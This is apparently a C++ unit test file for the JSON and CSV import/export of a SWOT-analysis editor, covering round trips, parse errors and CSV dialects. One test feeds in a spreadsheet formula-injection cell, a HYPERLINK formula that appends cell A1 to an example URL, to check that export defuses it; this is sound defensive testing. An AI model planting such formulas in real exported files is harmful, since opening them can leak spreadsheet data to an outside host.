// Projects in and out as JSON and CSV.
#include "ProjectBuilder.h"
#include "storage/UntCsv.h"
#include "storage/UntDataModule.h"
#include "storage/UntErrors.h"
#include "storage/UntIO.h"
#include "storage/UntInterchange.h"
#include "storage/UntJson.h"
#include "storage/UntRtf.h"
#include "storage/UntUtils.h"

#include <QDir>
#include <QDirIterator>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QRegularExpression>
#include <QTemporaryDir>
#include <algorithm>
#include <functional>
#include <gtest/gtest.h>

namespace {

QString ErrorOf(const std::function<void()>& action) {
    try {
        action();
    } catch (const EMerovanError& error) {
        return error.Message();
    }
    return {};
}

QByteArray ReadAll(const QString& path) {
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

// Every project file we ship and every fixture the reader accepts.
QStringList ReadableProjects() {
    QStringList paths;
    for (const char* folder : {MEROVAN_RESOURCES_DIR "/templates", MEROVAN_FIXTURES_DIR}) {
        QDirIterator files(QString::fromUtf8(folder), {"*.swot"}, QDir::Files,
                           QDirIterator::Subdirectories);
        while (files.hasNext()) {
            const QString path = files.next();
            if (ErrorOf([&] { ReadProject(path); }).isEmpty())
                paths << path;
        }
    }
    return paths;
}

// Where two documents part, with what each holds there; empty when they are
// the same.
std::string FirstDifference(const QByteArray& written, const QByteArray& expected) {
    const qsizetype common = std::min(written.size(), expected.size());
    qsizetype at = 0;
    while (at < common && written[at] == expected[at])
        ++at;
    if (at == common && written.size() == expected.size())
        return {};
    return "at byte " + std::to_string(at) + ": written «" + written.mid(at, 60).toStdString() +
           "», expected «" + expected.mid(at, 60).toStdString() + "»";
}

// A factor as read from CSV: its type, name, mark and the plain text of its
// comment.
struct Factor {
    std::int32_t Type;
    QString Name;
    std::int32_t Mark;
    QString Comment;
    friend bool operator==(const Factor&, const Factor&) = default;
};

void PrintTo(const Factor& factor, std::ostream* out) {
    *out << factor.Type << " " << factor.Name.toStdString() << " " << factor.Mark << " "
         << factor.Comment.toStdString();
}

} // namespace

// A project comes back byte for byte through JSON: a shipped file as it is on
// disk (starting from what Merovan writes, as this test once did, hid that
// the first save made every "<BR>" a raw line break and every "\\uN" a raw
// character), and the file Merovan writes of any project; the JSON comes
// back through a project file.
TEST(Interchange, JsonRoundTripsEveryProject) {
    const QStringList paths = ReadableProjects();
    ASSERT_GE(paths.size(), 12) << "the examples of both languages and the fixtures";
    int shipped = 0;
    for (const QString& path : paths) {
        SCOPED_TRACE(path.toStdString());
        if (path.startsWith(MEROVAN_RESOURCES_DIR)) {
            ++shipped;
            const auto back = ReadProjectJson(ProjectJson(*ReadProject(path)));
            EXPECT_EQ(FirstDifference(ProjectContent(*back),
                                      ExtractEntry(path, "content.xml", MaxContentSize)),
                      "");
            EXPECT_TRUE(ProjectArchive(*back) == ReadAll(path));
        }
        const QByteArray saved = ProjectArchive(*ReadProject(path));
        const QByteArray json = ProjectJson(*ReadProjectArchive(saved));
        const QByteArray again = ProjectArchive(*ReadProjectJson(json));
        EXPECT_EQ(again, saved);
        EXPECT_EQ(ProjectJson(*ReadProjectArchive(again)), json);
    }
    EXPECT_EQ(shipped, 6) << "the examples and reference projects of both languages";
}

// What the editor holds in memory, before any saving, comes back exactly:
// comment lines, duplicate records and their order, headings, odd texts.
TEST(Interchange, JsonKeepsTheProjectInMemory) {
    auto project = MixedProject({{"Grow", {{0, 1}, {4, 5}, {0, 1}}}, {"Hold", {}}});
    project->Title = "Café & “co” <b>";
    project->Labels.SetValue(hdThreats, "Menaces\tà venir");
    project->Labels.SetValue(hdDangers, QString());
    project->Comments = {"{\\rtf1\\ansi\\pard One \\b two\\b0 \\par ", "three\\par }"};
    project->Items[2]->Comments = WriteRtf({{{"bold", true}}, {}, {{"end"}}});
    project->Guidelines[0]->Comments = {"{\\rtf1 \\'e9t\\'e9}"};

    const auto back = ReadProjectJson(ProjectJson(*project));
    EXPECT_EQ(back->Title, project->Title);
    EXPECT_EQ(back->Comments, project->Comments);
    for (int number = 1; number <= TLabels::Count; ++number)
        EXPECT_EQ(back->Labels.Value(number), project->Labels.Value(number)) << number;
    ASSERT_EQ(back->Items.size(), project->Items.size());
    for (std::size_t i = 0; i < project->Items.size(); ++i) {
        EXPECT_EQ(back->Items[i]->Name, project->Items[i]->Name);
        EXPECT_EQ(back->Items[i]->SwotType, project->Items[i]->SwotType);
        EXPECT_EQ(back->Items[i]->Mark, project->Items[i]->Mark);
        EXPECT_EQ(back->Items[i]->Comments, project->Items[i]->Comments);
    }
    ASSERT_EQ(back->Guidelines.size(), 2u);
    EXPECT_EQ(back->Guidelines[0]->Couples, project->Guidelines[0]->Couples);
    EXPECT_EQ(back->Guidelines[0]->Comments, project->Guidelines[0]->Comments);
    EXPECT_TRUE(back->Guidelines[1]->Couples.empty());

    const QJsonValue text =
        QJsonDocument::fromJson(ProjectJson(*project)).object()["factors"][2]["comment"]["text"];
    EXPECT_EQ(text.toString(), "bold\n\nend") << "the plain text, for readers without RTF";
}

TEST(Interchange, JsonImportRefusesWhatAProjectCannotHoldNamingThePlace) {
    const QString head = R"({"format": "merovan-project", "version": 1, )";
    const QString factor = R"("factors": [{"type": "strength", "name": "A"}, )"
                           R"({"type": "opportunity", "name": "B"}], )";
    const struct {
        QString json;
        const char* error;
    } cases[] = {
        {"{\"format\": ", "The file is not valid JSON: "},
        {"[]", "format is missing."},
        {R"({"format": "swot", "version": 1})", "format: “merovan-project” is expected"},
        {R"({"format": "merovan-project", "version": 2})",
         "version: this release of Merovan does not read version 2 of the format."},
        {head + R"("title": 3})", "title: a text is expected."},
        {head + R"("title": "A\u0001"})", "title: holds a control character"},
        {head + R"("headings": {"20": "x"}})", "headings.20 is unknown."},
        {head + R"("a\u0000b": 1})", R"(a\u0000b is unknown.)"},
        {head + R"("headings": {"04": "x"}})", "headings.04 is unknown."},
        {head + R"("factors": {}})", "factors: a list is expected."},
        {head + R"("factors": ["A"]})", "factors[0]: an object is expected."},
        {head + R"("factors": [{"type": "strength"}]})", "factors[0].name is missing."},
        {head + R"("factors": [{"type": "Strength", "name": "A"}]})",
         "factors[0].type: the type is “strength”"},
        {head + R"("factors": [{"type": "threat", "name": "A", "mark": "3"}]})",
         "factors[0].mark: a whole number is expected."},
        {head + R"("factors": [{"type": "threat", "name": "A", "mark": 2.5}]})",
         "factors[0].mark: a whole number is expected."},
        {head + R"("factors": [{"type": "threat", "name": "A", "mark": 4}]})",
         "factors[0].mark: the importance is 1 (low), 2 (medium) or 3 (high)."},
        {head + R"("factors": [{"type": "threat", "name": "A", "comments": {}}]})",
         "factors[0].comments is unknown."},
        {head + R"("factors": [{"type": "threat", "name": "A", "comment": {"rtf": 1}}]})",
         "factors[0].comment.rtf: a text is expected."},
        {head + factor + R"("conclusions": [{"name": "C", "couplings": [[0]]}]})",
         "conclusions[0].couplings[0]: a coupling is a list of two factor positions."},
        {head + factor + R"("conclusions": [{"name": "C", "couplings": [[0, 2]]}]})",
         "conclusions[0].couplings[0][1]: no factor has this position."},
        {head + factor + R"("conclusions": [{"name": "C", "couplings": [[-1, 1]]}]})",
         "conclusions[0].couplings[0][0]: no factor has this position."},
        {head + factor + R"("conclusions": [{"name": "C", "couplings": [[0, 1e10]]}]})",
         "conclusions[0].couplings[0][1]: a whole number is expected."},
        {head + R"("title": "A",)" + "\n" + R"( "title": "B"})",
         "title is given twice (line 2, column 2)."},
        {head + R"("title": "A", "t\u0069tle": "B"})", "title is given twice"},
        {head +
             R"("factors": [{"type": "threat", "name": "A"}, {"type": "threat", "name": "A", "mark": 1, "mark": 3}]})",
         "factors[1].mark is given twice"},
        {head + factor + R"("factors": []})", "factors is given twice"},
        {head + factor +
             R"("conclusions": [{"name": "C", "couplings": []}, {"name": "D", "comment": {"text": "a", "text": "b"}}]})",
         "conclusions[1].comment.text is given twice"},
    };
    for (const auto& c : cases) {
        const QString error = ErrorOf([&] { ReadProjectJson(c.json.toUtf8()); });
        EXPECT_TRUE(error.startsWith(QString::fromUtf8(c.error)))
            << c.json.toStdString() << "\n  gave: " << error.toStdString();
    }
    EXPECT_TRUE(ErrorOf([] { ReadProjectJson("{\n\"format\" 1}"); }).contains("(line 2, column "));
}

// A coupling that does not join an internal factor to an external one is
// kept, as project files keep it, and named with its place in a remark.
TEST(Interchange, JsonImportNamesCouplingsOfUnsuitableTypes) {
    const QByteArray json = R"({"format": "merovan-project", "version": 1,
        "factors": [{"type": "strength", "name": "S"}, {"type": "opportunity", "name": "O"},
                    {"type": "weakness", "name": "W"}, {"type": "threat", "name": "T"}],
        "conclusions": [{"name": "A", "couplings": [[0, 1], [2, 3]]},
                        {"name": "B", "couplings": [[0, 3], [1, 0], [0, 2], [3, 1]]}]})";
    QStringList remarks;
    const auto project = ReadProjectJson(json, &remarks);
    const QString remark = ": the coupling does not join an internal factor (strength or weakness) "
                           "to an external one (opportunity or threat); it was kept, but no view "
                           "or report shows it.";
    EXPECT_EQ(remarks, (QStringList{"conclusions[1].couplings[1]" + remark,
                                    "conclusions[1].couplings[2]" + remark,
                                    "conclusions[1].couplings[3]" + remark}));
    ASSERT_EQ(project->Guidelines.size(), 2u);
    EXPECT_EQ(project->Guidelines[1]->Couples,
              (std::vector<TTOWSCouple>{{0, 3}, {1, 0}, {0, 2}, {3, 1}}));

    QTemporaryDir folder;
    QFile file(folder.filePath("hand-made.json"));
    ASSERT_TRUE(file.open(QIODevice::WriteOnly));
    file.write(json);
    file.close();
    QStringList imported;
    ImportProject(file.fileName(), &imported);
    EXPECT_EQ(imported, remarks);
}

// Factors only damaged files hold have no place in the data forms.
TEST(Interchange, ExportRefusesFactorsOfNoTypeOrMark) {
    const auto badType = MakeProject({{"A", stStrength, 2}, {"B", 7, 2}});
    const auto badMark = MakeProject({{"A", stStrength, 9}});
    const auto negativeType = MakeProject({{"A", -2, 2}});
    for (const auto& write : {ProjectJson, FactorsCsv}) {
        EXPECT_TRUE(ErrorOf([&] { write(*badType); }).startsWith("factors[1].type:"));
        EXPECT_TRUE(ErrorOf([&] { write(*negativeType); }).startsWith("factors[0].type:"));
        EXPECT_TRUE(ErrorOf([&] { write(*badMark); }).startsWith("factors[0].mark:"));
    }
}

TEST(Interchange, TheDocumentedExampleImports) {
    const QString document =
        QString::fromUtf8(ReadAll(QStringLiteral(MEROVAN_SOURCE_DIR "/../docs/json-format.md")));
    const QRegularExpressionMatch example =
        QRegularExpression("```json\n(.*?)```", QRegularExpression::DotMatchesEverythingOption)
            .match(document);
    ASSERT_TRUE(example.hasMatch());
    const auto project = ReadProjectJson(example.captured(1).toUtf8());
    EXPECT_EQ(project->Title, "Corner café – a second shop?");
    EXPECT_EQ(RtfToPlainText(project->Comments), "Should we open a second shop across the river?");
    EXPECT_EQ(project->Labels.Value(hdSituationAnalysis), "Situation of the café");
    EXPECT_EQ(project->Labels.Value(hdConclusions), "What we will do");
    EXPECT_EQ(project->Labels.Value(hdStrengths), TLabels::DefaultValue(hdStrengths));
    ASSERT_EQ(project->Items.size(), 4u);
    const std::int32_t types[] = {stStrength, stWeakness, stOpportunity, stThreat};
    const std::int32_t marks[] = {3, 2, 3, 1};
    for (std::size_t i = 0; i < 4; ++i) {
        EXPECT_EQ(project->Items[i]->SwotType, types[i]);
        EXPECT_EQ(project->Items[i]->Mark, marks[i]);
    }
    const TRtfDocument comment = ReadRtf(LinesToStream(project->Items[0]->Comments));
    EXPECT_EQ(PlainText(comment), "Most come every day.");
    EXPECT_TRUE(comment.at(0).at(1).Bold);
    ASSERT_EQ(project->Guidelines.size(), 1u);
    EXPECT_EQ(project->Guidelines[0]->Couples, (std::vector<TTOWSCouple>{{0, 2}, {1, 2}}));
    EXPECT_EQ(RtfToPlainText(project->Guidelines[0]->Comments),
              "Start with coffee and lunch only.");
}

TEST(Interchange, CsvInputsAsSpreadsheetsWriteThem) {
    const struct {
        const char* what;
        QByteArray csv;
        std::vector<Factor> factors; // when it is read
        const char* error;           // otherwise
    } cases[] = {
        {"our own export",
         "type,name,mark,comment\r\nstrength,Brand,3,Known\r\nthreat,Rivals,1,\r\n",
         {{stStrength, "Brand", 3, "Known"}, {stThreat, "Rivals", 1, ""}},
         nullptr},
        {"byte-order mark, semicolons, French header and words",
         "\xEF\xBB\xBFType;Libellé;Importance;Commentaire\r\nForces;Marque;haute;Connue, "
         "aimée\r\nMenace;Concurrent;faible;\r\nOpportunité;Marché;;\r\n",
         {{stStrength, "Marque", 3, "Connue, aimée"},
          {stThreat, "Concurrent", 1, ""},
          {stOpportunity, "Marché", 2, ""}},
         nullptr},
        {"quoted separators, quotes and line breaks, blank lines closing a cell; no header",
         "S,\"Brand, \"\"old\"\"\",2,\"line one\nline two\n\n \n\"\nO,Market\n",
         {{stStrength, "Brand, \"old\"", 2, "line one\nline two"},
          {stOpportunity, "Market", 2, ""}},
         nullptr},
        {"letters, columns in another order, blank rows and blanks",
         "name,type\n\n  Alpha  ,w\nBeta,F\n,\n\"Gam\nma\",t\nDelta,M\n",
         {{stWeakness, "Alpha", 2, ""},
          {stWeakness, "Beta", 2, ""},
          {stThreat, "Gam ma", 2, ""},
          {stThreat, "Delta", 2, ""}},
         nullptr},
        {"semicolons, and more commas inside the quotes of the first row",
         "S;\"Bread, butter, jam, honey\";3;\"Sold, daily\"\nO;Market;1;\n",
         {{stStrength, "Bread, butter, jam, honey", 3, "Sold, daily"},
          {stOpportunity, "Market", 1, ""}},
         nullptr},
        {"tabs, and more semicolons inside the quotes of the first row",
         "S\t\"a;b;c\"\t1\n",
         {{stStrength, "a;b;c", 1, ""}},
         nullptr},
        {"Windows-1252",
         "type;name\nforce;Caf\xe9 \x80\n",
         {{stStrength, "Café €", 2, ""}},
         nullptr},
        {"a bad type after a field of two lines",
         "type,name,mark,comment\nS,A,1,\"a\nb\"\nX,B,1,\n",
         {},
         "Line 4: the type “X” is unknown"},
        {"a bad mark", "S,A,5\n", {}, "Line 1: the importance “5” is unknown"},
        {"a control character", "S,A\nX\x01,B\n", {}, "Line 2: the type “X\\u0001” is unknown"},
        {"no name", "S,A\nS,  \n", {}, "Line 2: the factor has no name."},
        {"a quote left open", "S,A\nO,\"B\n\nT,C\n", {}, "Line 2: a quoted field is not closed."},
        {"a header alone", "type,name\r\n", {}, "The file holds no factor."},
        {"Excel's line naming the separator",
         "sep=;\r\ntype;name;mark\r\nS;Bread, butter;3\r\n",
         {{stStrength, "Bread, butter", 3, ""}},
         nullptr},
        {"Excel's line naming the separator, without a header",
         "\xEF\xBB\xBFsep=,\nS,A;B\n",
         {{stStrength, "A;B", 2, ""}},
         nullptr},
        {"an unquoted comma in a comment",
         "type,name,mark,comment\nS,A,1,good\nW,B,2,slow, and dear\n",
         {},
         "Line 3: the row has 5 fields, but there are only 4 columns; a field holding the "
         "separator must be quoted."},
        {"an unquoted comma in a name, without a header",
         "S,Bread, butter,3,fresh\n",
         {},
         "Line 1: the row has 5 fields, but there are only 4 columns"},
        {"empty fields beyond the columns",
         "type,name\nS,A,,\n",
         {{stStrength, "A", 2, ""}},
         nullptr},
        {"apostrophes that keep formulas text",
         "S,'=1+1,3,'-5%\nO,''@x\nT,'plain\n",
         {{stStrength, "=1+1", 3, "-5%"},
          {stOpportunity, "'@x", 2, ""},
          {stThreat, "'plain", 2, ""}},
         nullptr},
    };
    for (const auto& c : cases) {
        std::unique_ptr<TProject> project;
        const QString error = ErrorOf([&] { project = ReadProjectCsv(c.csv); });
        if (c.error) {
            EXPECT_TRUE(error.startsWith(QString::fromUtf8(c.error)))
                << c.what << "\n  gave: " << error.toStdString();
            continue;
        }
        ASSERT_TRUE(project) << c.what << ": " << error.toStdString();
        std::vector<Factor> factors;
        for (const auto& item : project->Items)
            factors.push_back(
                {item->SwotType, item->Name, item->Mark, CommentText(item->Comments)});
        EXPECT_EQ(factors, c.factors) << c.what;
        // The comment holds its text alone, without the blank lines closing its cell.
        for (std::size_t i = 0; i < factors.size(); ++i)
            EXPECT_EQ(project->Items[i]->Comments, PlainTextToLines(factors[i].Comment))
                << c.what << ", factor " << i;
        EXPECT_EQ(project->Labels.Value(hdStrengths), "Our strengths")
            << "the reference project's headings";
    }
}

TEST(Interchange, CsvExportReadsBack) {
    const auto bakery =
        ReadProject(MEROVAN_RESOURCES_DIR "/templates/Family bakery - online sales.swot");
    const QByteArray csv = FactorsCsv(*bakery);
    EXPECT_TRUE(csv.startsWith(
        "\xEF\xBB\xBFtype,name,mark,comment\r\nstrength,Recipes handed down over three "
        "generations,3,\"Our sourdough and brioche are known across the "
        "district.\nCustomers come"));
    const auto back = ReadProjectCsv(csv);
    ASSERT_EQ(back->Items.size(), bakery->Items.size());
    for (std::size_t i = 0; i < back->Items.size(); ++i) {
        EXPECT_EQ(back->Items[i]->Name, bakery->Items[i]->Name);
        EXPECT_EQ(back->Items[i]->SwotType, bakery->Items[i]->SwotType);
        EXPECT_EQ(back->Items[i]->Mark, bakery->Items[i]->Mark);
        EXPECT_EQ(CommentText(back->Items[i]->Comments), CommentText(bakery->Items[i]->Comments));
    }
}

// Quotes, separators and line breaks in a field, wherever they stand, come
// back as they were written.
TEST(Interchange, CsvExportQuotesWhatNeedsIt) {
    const auto project = MakeProject({{"\"Best\" bread", stStrength, 3},
                                      {"Fresh \"daily\", hot", stOpportunity, 1},
                                      {"Semi;colon", stThreat, 2}});
    project->Items[0]->Comments = PlainTextToLines("\"Quoted\" start\nand \"more\"");
    project->Items[2]->Comments = PlainTextToLines("a,b\tc");
    const auto back = ReadProjectCsv(FactorsCsv(*project));
    ASSERT_EQ(back->Items.size(), project->Items.size());
    for (std::size_t i = 0; i < back->Items.size(); ++i) {
        EXPECT_EQ(back->Items[i]->Name, project->Items[i]->Name);
        EXPECT_EQ(CommentText(back->Items[i]->Comments), CommentText(project->Items[i]->Comments));
    }
}

// A cell a spreadsheet would take for a formula or a link opens with an
// apostrophe, which keeps it text; reading takes it off, so names and
// comments come back exactly.
TEST(Interchange, CsvCellsThatLookLikeFormulasStayText) {
    const char* const names[] = {R"x(=HYPERLINK("http://example.com/?"&A1,"Prices"))x",
                                 "+33 1 23 45 67 89",
                                 "-10% margin",
                                 "@home",
                                 "'=quoted",
                                 "plain",
                                 "it's",
                                 "a=b"};
    TProject project;
    for (const char* name : names) {
        auto item = std::make_unique<TTOWSItem>();
        item->Name = QString::fromUtf8(name);
        item->SwotType = stStrength;
        item->Mark = mkHigh;
        item->Comments = PlainTextToLines(QString::fromUtf8(name) + "\nsecond line");
        project.Items.push_back(std::move(item));
    }
    const QByteArray csv = FactorsCsv(project);
    EXPECT_TRUE(csv.startsWith("\xEF\xBB\xBFtype,name,mark,comment\r\n"));
    const QList<QByteArray> rows = csv.split('\n');
    EXPECT_TRUE(rows[1].startsWith(
        R"x(strength,"'=HYPERLINK(""http://example.com/?""&A1,""Prices"")",3,"'=HYPERLINK()x"))
        << rows[1].toStdString();
    EXPECT_TRUE(csv.contains("strength,'+33 1 23 45 67 89,3,\"'+33"));
    EXPECT_TRUE(csv.contains("strength,'-10% margin,3,\"'-10%"));
    EXPECT_TRUE(csv.contains("strength,'@home,3,\"'@home"));
    EXPECT_TRUE(csv.contains("strength,''=quoted,3,"));
    EXPECT_TRUE(csv.contains("strength,plain,3,"));
    EXPECT_TRUE(csv.contains("strength,it's,3,"));
    const auto back = ReadProjectCsv(csv);
    ASSERT_EQ(back->Items.size(), project.Items.size());
    for (std::size_t i = 0; i < back->Items.size(); ++i) {
        EXPECT_EQ(back->Items[i]->Name, project.Items[i]->Name);
        EXPECT_EQ(back->Items[i]->Comments, project.Items[i]->Comments);
    }
}

// The extension chooses the form; a file that is none is refused, and
// nothing is written.
TEST(Interchange, FilesByExtension) {
    QTemporaryDir folder;
    const auto project = MixedProject({{"Grow", {{0, 1}}}});
    for (const char* name : {"p.json", "p.CSV"}) {
        ExportProject(*project, folder.filePath(name));
        EXPECT_EQ(ImportProject(folder.filePath(name))->Items.size(), 6u) << name;
    }
    const QString unknown = "The format follows the extension of the file: json, csv.";
    EXPECT_EQ(ErrorOf([&] { ExportProject(*project, folder.filePath("p.txt")); }), unknown);
    EXPECT_FALSE(QFile::exists(folder.filePath("p.txt")));
    EXPECT_EQ(ErrorOf([&] { ImportProject(folder.filePath("p.txt")); }), unknown);
    EXPECT_TRUE(ErrorOf([&] {
                    ImportProject(folder.filePath("none.json"));
                }).startsWith("The file cannot be opened: "));
    ASSERT_TRUE(QDir(folder.path()).mkdir("folder.json"));
    EXPECT_TRUE(ErrorOf([&] {
                    ImportProject(folder.filePath("folder.json"));
                }).startsWith("The file cannot be opened: "));
}
